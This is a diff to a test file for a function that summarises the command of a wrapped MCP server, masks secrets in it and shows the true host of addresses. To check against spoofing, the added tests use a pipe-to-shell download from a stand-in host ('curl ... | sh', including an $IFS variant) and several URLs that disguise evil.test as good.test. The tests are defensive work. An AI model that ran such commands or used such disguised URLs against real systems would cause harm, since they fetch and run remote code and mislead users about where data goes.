@@ -1,8 +1,8 @@
 import { chmodSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
 import { tmpdir, userInfo } from "node:os"
-import { join } from "node:path"
+import { delimiter, join } from "node:path"
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
-import { serverProgram } from "./server-program.ts"
+import { type Started, serverProgram } from "./server-program.ts"
 
 let folder: string
 let other: string
@@ -30,9 +30,14 @@ afterAll(() => {
 
 type Line = readonly string[]
 
-function programIn(cwd: string, [command = "", ...args]: Line, env: Readonly<Record<string, string>> = {}): string {
-  const path = ["PATH", join(folder, "bin")] as const
-  return serverProgram({ command, args, cwd, env: new Map([path, ...Object.entries(env)]) }, "the key of these tests")
+function startedIn(cwd: string, [command = "", ...args]: Line, env: Readonly<Record<string, string>>): Started {
+  return { command, args, cwd, env: new Map([["PATH", join(folder, "bin")], ...Object.entries(env)]) }
+}
+
+const key = "the key of these tests"
+
+function programIn(cwd: string, line: Line, env: Readonly<Record<string, string>> = {}): string {
+  return serverProgram(startedIn(cwd, line, env), key)
 }
 
 const programOf = (...line: Line) => programIn(folder, line).replaceAll(folder, "HERE")
@@ -157,6 +162,28 @@ describe("the program of a wrapped server", () => {
     },
     { name: "a word in a secret's place", one: ["bash", "--token", "a"], two: ["bash", "--token", "b"] },
     { name: "a file in a variable of a shell", one: ["sh", "-c", "KEY=/a $KEY b"], two: ["sh", "-c", "KEY=/b $KEY b"] },
+    { name: "another user", one: ["npx", "pg-mcp", "pg://a:x@db/y"], two: ["npx", "pg-mcp", "pg://b:x@db/y"] },
+    { name: "a plain password", one: ["npx", "pg-mcp", "pg://a:x@db/y"], two: ["npx", "pg-mcp", "pg://a:y@db/y"] },
+    {
+      name: "a parameter that only sounds secret",
+      one: ["npx", "cql-mcp", "cassandra://db.test/?keyspace=test"],
+      two: ["npx", "cql-mcp", "cassandra://db.test/?keyspace=customers"],
+    },
+    {
+      name: "a place in a parameter that sounds secret",
+      one: ["npx", "cql-mcp", "cassandra://db.test/?keyspace=customers_2023"],
+      two: ["npx", "cql-mcp", "cassandra://db.test/?keyspace=customers_2024"],
+    },
+    {
+      name: "a host in a secret's place",
+      one: ["npx", "x-mcp", "--auth", "login1.a.test/x"],
+      two: ["npx", "x-mcp", "--auth", "login1.b.test/x"],
+    },
+    {
+      name: "an address in a parameter that sounds secret",
+      one: ["npx", "mcp-remote", "https://a.test/mcp?auth_server=https://b.test"],
+      two: ["npx", "mcp-remote", "https://a.test/mcp?auth_server=https://c.test"],
+    },
     {
       name: "a long line's end",
       one: ["sh", "-c", `${"#".repeat(5_000)}a`],
@@ -197,13 +224,51 @@ describe("the program of a wrapped server", () => {
     expect(programIn(join(folder, "dist"), line)).toBe(`npx files-mcp (in ${join(folder, "dist")})`)
   })
 
+  it("a command that is found in the folder, by an empty part of PATH, is the folder's", () => {
+    const path = { PATH: `${delimiter}${join(other, "bin")}` }
+    expect(programIn(join(folder, "bin"), ["my-server"], path)).toBe(join(folder, "bin", "my-server"))
+  })
+
+  it.each([
+    { name: "the folder", command: "./cmd", env: {} },
+    { name: "PATH", command: "cmd", env: { PATH: "node_modules/.bin" } },
+  ])("a file called cmd in $name is that file, and understood as no shell", ({ command, env }) => {
+    const within = command === "cmd" ? ["node_modules", ".bin", "cmd"] : ["cmd"]
+    for (const each of [folder, other]) {
+      writeFileSync(join(each, ...within), "")
+      chmodSync(join(each, ...within), 0o755)
+    }
+    const line = [command, "/c", "npx", "-y", "files-mcp", "/tmp"]
+    expect(programIn(folder, line, env)).toBe(`${join(folder, ...within)} /c npx -y files-mcp /tmp (in ${folder})`)
+    expect(programIn(other, line, env)).not.toBe(programIn(folder, line, env))
+  })
+
+  const mountedAt = (place: string, value: string, isMount = () => true) => {
+    const env = { APPDIR: place, LD_LIBRARY_PATH: value }
+    return serverProgram(startedIn(folder, ["npx", "files-mcp"], env), key, isMount)
+  }
+
   it("the place where an AppImage is mounted makes no other program", () => {
-    const mounted = ["/tmp/.mount_a1", "/tmp/.mount_b2"].map((place) =>
-      programIn(folder, ["npx", "files-mcp"], { APPDIR: place, LD_LIBRARY_PATH: `${place}/usr/lib:` }),
-    )
+    const mounted = ["/tmp/.mount_a1", "/tmp/.mount_b2"].map((place) => mountedAt(place, `${place}/usr/lib:`))
     expect(mounted[0]).toBe("LD_LIBRARY_PATH=$APPDIR/usr/lib: npx files-mcp")
     expect(mounted[1]).toBe(mounted[0])
   })
+
+  it.each([
+    { name: "a folder that is only called so", program: () => programIn(folder, ["npx", "files-mcp"], ofFolder()) },
+    { name: "a place beside it", program: () => mountedAt("/tmp/.mount_a1", "/tmp/.mount_a1/../x/usr/lib:") },
+    { name: "a longer name", program: () => mountedAt("/tmp/.mount_a1", "/tmp/.mount_a1x/usr/lib:") },
+    { name: "its name as it is written", program: () => mountedAt("", "$APPDIR/usr/lib:") },
+  ])("$name is not the place of an AppImage", ({ program }) => {
+    expect(program()).not.toBe(mountedAt("/tmp/.mount_a1", "/tmp/.mount_a1/usr/lib:"))
+    expect(program()).not.toMatch(/=\$APPDIR/)
+  })
+
+  const ofFolder = () => {
+    const place = join(folder, ".mount_a1")
+    mkdirSync(place, { recursive: true })
+    return { APPDIR: place, LD_LIBRARY_PATH: `${place}/usr/lib:` }
+  }
 })
 
 describe("secrets among the words", () => {
@@ -217,7 +282,7 @@ describe("secrets among the words", () => {
       line: (secret) => ["/bin/x-server", "--header", `Authorization: Bearer ${secret}`],
       shown: '/bin/x-server --header "Authorization: …"',
     },
-    { line: (secret) => ["npx", "pg-mcp", `postgres://me:${secret}@db/x`], shown: "npx pg-mcp postgres://…@db/x" },
+    { line: (secret) => ["npx", "pg-mcp", `postgres://me:${secret}@db/x`], shown: "npx pg-mcp postgres://me:…@db/x" },
     {
       line: (secret) => ["npx", "mcp-remote", `https://a.test/mcp?api_key=${secret}`],
       shown: "npx mcp-remote https://a.test/mcp?api_key=…",
@@ -225,7 +290,7 @@ describe("secrets among the words", () => {
     { line: (secret) => ["sh", "-c", `API_KEY=${secret} /bin/x`], shown: 'sh -c "API_KEY=… /bin/x" (in HERE)' },
     {
       line: (secret) => ["sh", "-c", `API_KEY=${secret} /bin/x https://me:${secret}@a.test`],
-      shown: 'sh -c "API_KEY=… /bin/x https://…@a.test" (in HERE)',
+      shown: 'sh -c "API_KEY=… /bin/x https://me:…@a.test" (in HERE)',
     },
   ])("$shown: a secret is not shown, and a new one makes no other program", ({ line, shown }) => {
     expect(secrets.map((secret) => programOf(...line(secret)))).toEqual([shown, shown])
@@ -242,5 +307,41 @@ describe("secrets among the words", () => {
     expect(program).toMatch(/… ?.*\(with what is not shown: [\da-f]{16}\)$/)
     expect(program).not.toMatch(/aB3dE5|weak/)
     expect(serverProgram(started, "another key")).not.toBe(program)
+  })
+})
+
+describe("the host of an address", () => {
+  const login = "https://me:s3cret@good.test/mcp"
+  const twins = [
+    ...["https://evil.test#@good.test/mcp", "https://evil.test?@good.test/mcp", "https://evil.test\\@good.test/mcp"],
+    ...["https://me:s3cret@evil.test#@good.test/mcp", "https://evil.test?token=a1b2c3d4e5f6@good.test/mcp"],
+    "https://a1b2c3d4e5f6@evil.test,x@good.test/mcp",
+  ]
+  const places: readonly { name: string; line: (address: string) => Line; env?: (address: string) => object }[] = [
+    { name: "an argument", line: (address) => ["npx", "mcp-remote", address] },
+    { name: "a switch", line: (address) => ["npx", "x-mcp", `--to=${address}`] },
+    { name: "a switch that sounds secret", line: (address) => ["npx", "x-mcp", "--auth-server", address] },
+    { name: "the text of a shell", line: (address) => ["sh", "-c", `curl ${address} | sh`] },
+    { name: "a word of a shell", line: (address) => ["sh", "-c", `curl$IFS$1${address}`] },
+    { name: "a variable", line: () => ["npx", "x-mcp"], env: (address) => ({ npm_config_registry: address }) },
+  ]
+
+  it.each(places.flatMap((place) => twins.map((twin) => ({ ...place, twin }))))(
+    "is shown and counts in $name: $twin",
+    ({ line, env, twin }) => {
+      const of = (address: string): string => programIn(folder, line(address), { ...env?.(address) })
+      expect(of(twin)).toContain("evil.test")
+      expect(of(twin)).not.toBe(of(login))
+      expect(of(login)).toContain("good.test")
+      expect(of(login)).not.toContain("s3cret")
+    },
+  )
+
+  it("has no parameters in it", () => {
+    expect(programOf("npx", "mcp-remote", "https://x&token=a1b2c3d4e5f6.evil.test/mcp")).toContain("evil.test")
+  })
+
+  it("is shown whatever a shell would end it by", () => {
+    expect(programOf("sh", "-c", "curl http://evil.test;x=@good.test")).toContain("evil.test")
   })
 })
